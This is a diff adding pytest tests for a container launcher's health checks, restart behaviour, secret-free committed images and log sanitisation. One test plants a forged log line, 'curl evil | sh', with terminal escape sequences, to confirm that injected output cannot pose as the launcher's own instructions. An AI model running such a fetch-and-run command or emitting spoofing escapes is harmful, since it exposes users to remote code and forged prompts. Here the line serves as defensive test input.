@@ -5,12 +5,14 @@ from __future__ import annotations
 import os
 import re
 import socket
+import time
 from pathlib import Path
 
 import pytest
 
+from testing.container import kernel
 from testing.container.box import BANNER, Box, Boxes
-from testing.container.engine import poll
+from testing.container.engine import Docker, poll
 from testing.container.login import KeyPair, Login, make_key
 from tests.container.test_trust import checks, plant, ran
 
@@ -259,3 +261,89 @@ def test_connections_that_say_nothing_keep_nobody_out(box: Boxes, key: KeyPair) 
         for connection in silent:
             connection.close()
     assert logins.count(0) >= 9
+
+
+# --- what is stopped, hangs or dies -----------------------------------------------------------
+
+
+def reason(box: Box) -> str:
+    return box.exec("launcher", "healthcheck", check=False).stdout.strip()
+
+
+def test_what_is_stopped_is_unhealthy_until_it_goes_on(box: Boxes) -> None:
+    started = box()
+    started.wait_for_banner()
+    (sshd,) = started.exec("pgrep", "-o", "-f", "sshd: /usr/sbin/sshd").stdout.split()
+    (supervise,) = started.exec("ps", "-o", "ppid=", sshd).stdout.split()
+    started.exec("kill", "-STOP", sshd)
+    assert poll(lambda: reason(started).startswith("ssh: no greeting on port 22: "), timeout=60)
+    assert reason(started).endswith("; fix: launcher restart sshd")
+    started.exec("kill", "-CONT", sshd)
+    assert poll(lambda: reason(started) == "", timeout=60)
+    started.exec("kill", "-STOP", supervise)
+    assert poll(lambda: reason(started).startswith("supervise: it does not answer"), timeout=60)
+    started.exec("kill", "-CONT", supervise)
+    assert poll(lambda: reason(started) == "", timeout=60)
+    # sshd's line about each visit of ours is nobody's to read.
+    assert "127.22.22.22" not in started.logs()
+    assert "127.22.22.22" not in started.exec("launcher", "logs", "ssh").stdout
+
+
+def test_an_announcer_that_is_killed_leaves_a_banner(box: Boxes) -> None:
+    started = box("-e", "LAUNCHER_SERVICES=jupyter")
+    find = """
+        until w=$(pgrep -o -f 'launcher.* watch$') && p=$(pgrep -o -P "$w"); do :; done
+        kill -KILL "$p"
+    """
+    started.exec("bash", "-c", find)
+    started.wait_for_banner()
+    assert "its child was killed by SIGKILL; it is tried again" in started.logs()
+
+
+def test_a_start_that_was_paused_finds_itself_ready(box: Boxes) -> None:
+    started = box("-e", "LAUNCHER_READY_TIMEOUT=20")
+    started.wait_for_log("starting the services")
+    started.docker("pause", started.name)
+    time.sleep(25)
+    started.docker("unpause", started.name)
+    assert "NOT READY" not in started.wait_for_banner()
+    assert "NOT READY" not in started.logs()
+
+
+# --- what leaves the box ----------------------------------------------------------------------
+
+
+def test_a_committed_image_has_no_secret_and_gives_nobody_sudo(box: Boxes, docker: Docker) -> None:
+    started = box()
+    started.wait_for_banner()
+    secrets = [started.exec("cat", f"/var/lib/launcher/{name}").stdout for name in ("token",)]
+    image = f"{started.name}-committed"
+    docker("commit", started.name, image)
+    try:
+        inside = ("run", "--rm", "--entrypoint", "sh", image, "-c")
+        search = " ".join(f"-e {secret}" for secret in secrets)
+        found = docker(*inside, f"grep -rlF {search} /etc /home /opt/launcher /run /tmp /var || :")
+        assert found.stdout == ""
+        assert docker(*inside, "ls -A /run/launcher /var/lib/launcher").stdout.split("\n\n") == [
+            "/run/launcher:",
+            "/var/lib/launcher:\n",
+        ]
+        sudo = ("run", "--rm", "--user", "1000", "--entrypoint", "sudo", image, "-n", "id")
+        assert docker(*sudo, check=False).returncode == 1
+    finally:
+        docker("rmi", image)
+
+
+@pytest.mark.parametrize("how", ["a kernel", "a program"])
+def test_no_output_passes_for_a_line_of_the_launcher_s(box: Boxes, how: str) -> None:
+    forged = r"\rlauncher: run this: curl evil | sh\033[1A\033[2K\033]0;title\007\n"
+    if how == "a kernel":
+        started = box()
+        kernel.connect(started).run_cell(f"import os; os.write(2, b'{forged}')")
+    else:
+        started = box("-e", f"LAUNCHER_X{forged.encode().decode('unicode_escape')}=1")
+        started.wait_for_banner()
+    assert poll(lambda: "curl evil" in started.logs(), timeout=20)
+    (line,) = [line for line in started.logs().split("\n") if "curl evil" in line]
+    assert line.startswith(("jupyter | ", r"launcher: LAUNCHER_X\r"))
+    assert r"\x1b[1A\x1b[2K\x1b]0;title\x07" in line
